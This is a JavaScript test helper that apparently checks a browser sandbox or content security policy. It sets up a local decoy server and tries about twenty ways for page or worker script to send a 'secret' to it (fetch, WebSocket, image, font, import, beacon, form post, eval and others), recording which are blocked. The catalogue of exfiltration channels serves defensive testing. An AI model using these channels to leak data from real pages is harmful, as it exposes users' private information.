// Ways out that a script could try, and the server they lead to.
import { createServer } from 'node:http';
import { afterAll } from './harness.mjs';

/** A server that should never be asked. It would let anybody read its answers. */
export async function elsewhere() {
  const asked = [];
  const server = createServer((req, res) => { asked.push(req.url); res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end(''); });
  server.on('upgrade', (req, socket) => { asked.push(`socket ${req.url}`); socket.destroy(); });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  afterAll(() => { server.closeAllConnections(); server.close(); });
  return { url: `http://127.0.0.1:${server.address().port}/`, asked };
}

/** All the ways out that a script in the page could try. */
export const attempts = async (target) => {
  const out = {};
  const event = (el, where = document.body) => new Promise((yes, no) => { el.onload = () => yes('loaded'); el.onerror = () => no(new Error('blocked')); where.append(el); setTimeout(() => no(new Error('silent')), 1500); });
  const make = (tag, props) => Object.assign(document.createElement(tag), props);
  const tries = {
    fetch: () => fetch(`${target}fetch?secret`, { mode: 'no-cors' }),
    xhr: () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open('GET', `${target}xhr?secret`); x.onload = yes; x.onerror = no; x.send(); }),
    socket: () => new Promise((yes, no) => { const s = new WebSocket(`${target.replace('http', 'ws')}socket`); s.onopen = yes; s.onerror = no; }),
    events: () => new Promise((yes, no) => { const s = new EventSource(`${target}events`); s.onopen = yes; s.onerror = no; }),
    image: () => event(make('img', { src: `${target}image?secret` })),
    style: () => event(make('link', { rel: 'stylesheet', href: `${target}style?secret` }), document.head),
    preload: () => event(make('link', { rel: 'preload', as: 'image', href: `${target}preload?secret` }), document.head),
    media: () => event(make('audio', { src: `${target}media?secret`, preload: 'auto' })),
    font: () => new FontFace('x', `url(${target}font?secret)`).load(),
    import: () => import(`${target}import.js?secret`),
    script: () => event(make('script', { src: `${target}script.js?secret` })),
    inline: () => { const s = document.createElement('script'); s.textContent = 'globalThis.inlined = 1'; document.head.append(s); if (!globalThis.inlined) throw new Error('blocked'); },
    eval: () => { (0, eval)('1'); },
    function: () => { new Function('return 1')(); },
    innerHTML: () => { document.createElement('div').innerHTML = '<img src=x onerror=1>'; },
    worker: () => { new Worker(`${target}worker.js`); },
    blobWorker: () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))); w.onmessage = yes; w.onerror = no; }),
    policy: () => { trustedTypes.createPolicy('mine', { createHTML: (x) => x }); },
    base: () => { document.head.append(make('base', { href: target })); if (!document.baseURI.startsWith(target)) throw new Error('blocked'); },
  };
  for (const [name, fn] of Object.entries(tries)) {
    try { await fn(); out[name] = 'went through'; } catch { out[name] = 'blocked'; }
  }
  // These say nothing about what became of them.
  document.body.append(make('iframe', { src: `${target}frame?secret` }));
  navigator.sendBeacon?.(`${target}beacon?secret`, 'secret');
  const form = make('form', { action: `${target}form`, method: 'post', target: '_self' });
  document.body.append(form);
  form.submit();
  await new Promise((r) => setTimeout(r, 600));
  return out;
};

/** Those that a page and a worker have in common, and pictures where there is a document. Runs in the browser. */
export const leaks = async (target) => {
  const out = {};
  const settled = (start) => new Promise((yes, no) => {
    start(yes, () => no(new Error('blocked')));
    setTimeout(() => no(new Error('silent')), 1500);
  });
  const tries = {
    fetch: () => fetch(`${target}fetch?secret`, { mode: 'no-cors' }),
    post: () => fetch(`${target}post`, { method: 'POST', mode: 'no-cors', body: 'secret' }),
    xhr: () => settled((yes, no) => { const x = new XMLHttpRequest(); x.open('GET', `${target}xhr?secret`); x.onload = yes; x.onerror = no; x.send(); }),
    socket: () => settled((yes, no) => { const s = new WebSocket(`${target.replace('http', 'ws')}socket`); s.onopen = yes; s.onerror = no; }),
    events: () => settled((yes, no) => { const s = new EventSource(`${target}events`); s.onopen = yes; s.onerror = no; }),
    import: () => import(`${target}import.js?secret`),
  };
  if (globalThis.document) {
    tries.image = () => settled((yes, no) => Object.assign(new Image(), { onload: yes, onerror: no }).setAttribute('src', `${target}image?secret`));
    tries.frame = () => settled((yes, no) => {
      const frame = document.createElement('iframe');
      // A frame that was blocked says that it loaded, too: what counts is who was asked.
      frame.onload = no;
      frame.src = `${target}frame?secret`;
      document.body.append(frame);
    });
    // Says nothing about what became of it.
    tries.beacon = async () => { navigator.sendBeacon(`${target}beacon?secret`, 'secret'); await new Promise((r) => setTimeout(r, 300)); throw new Error('unknown'); };
  }
  for (const [name, fn] of Object.entries(tries)) {
    try { await fn(); out[name] = 'went through'; } catch { out[name] = 'blocked'; }
  }
  return out;
};
